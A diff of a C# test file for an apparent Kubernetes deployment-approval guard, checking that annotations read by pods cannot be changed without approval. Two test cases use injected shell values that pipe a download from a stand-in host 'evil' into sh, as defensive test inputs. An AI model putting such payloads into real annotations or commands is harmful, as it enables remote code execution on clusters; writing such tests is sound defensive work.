@@ -15,9 +15,10 @@ public class SameHashTests
           {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}}],
         """;
 
-    [TestCase("deployguard.io/run", "x; curl http://evil/|sh #")]
-    [TestCase("kubectl.kubernetes.io/restartedAt", "$(curl http://evil/|sh)")]
-    public async Task AnnotationsThatThePodsReadCannotBeChangedUnderAnApproval(string key, string value)
+    [TestCase("deployguard.io/run", "x; curl http://evil/|sh #", "ApprovalMissing")]
+    [TestCase("kubectl.kubernetes.io/restartedAt", "$(curl http://evil/|sh)", "ApprovalMissing")]
+    [TestCase("kubectl.kubernetes.io/restartedAt", "2001-02-03T04:05:06Z", "RestartTimeUnknown")]
+    public async Task AnnotationsThatThePodsReadCannotBeChangedUnderAnApproval(string key, string value, string reason)
     {
         var sandbox = await ApprovedAsync(Reader());
         var patch = new JsonObject
@@ -27,9 +28,9 @@ public class SameHashTests
 
         var run = await sandbox.KubectlAsync("dana", "patch", "deployment", "web", "--type=merge", "-p", patch.ToJsonString());
 
-        Assert.That(run.Output, Does.Contain("ApprovalMissing"));
+        Assert.That(run.Output, Does.Contain(reason));
         var pods = (await sandbox.KubectlAsync("dana", "get", "deployment,replicasets,pods", "-o", "jsonpath={.items[*].metadata.annotations}{.items[*].spec.template.metadata.annotations}")).OrFail();
-        Assert.That(pods.Output, Does.Not.Contain("evil"));
+        Assert.That(pods.Output, Does.Not.Contain("evil").And.Not.Contain("2001"));
     }
 
     [Test]
@@ -56,17 +57,6 @@ public class SameHashTests
         Assert.That(run.Output, Does.Contain("ApprovalMissing"));
         Assert.That((await sandbox.KubectlAsync("dana", "get", "pods", "-o", "name")).Output, Is.Empty);
         (await sandbox.CreateAsync("dana", Pod("", ""))).OrFail();
-    }
-
-    [Test]
-    public async Task APodIsMadeUnderItsApprovalWhateverAdmissionAddsToIt()
-    {
-        var sandbox = await GuardedAsync();
-        var pod = Parse($$"""{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "tool"}, "spec": {"containers": [{"name": "c", "image": "{{V1}}"}] } }""");
-        Assert.That((await sandbox.CreateAsync("dana", pod)).Output, Does.Contain("ApprovalMissing"));
-        (await sandbox.ApproveAsync("alice", await sandbox.ChangeInPhaseAsync("Pending"))).OrFail();
-
-        (await sandbox.CreateAsync("dana", pod)).OrFail();
 
         // Its node is the scheduler's choice: the pod that runs is the one that was approved all the same.
         await sandbox.ChangeInPhaseAsync("Completed");
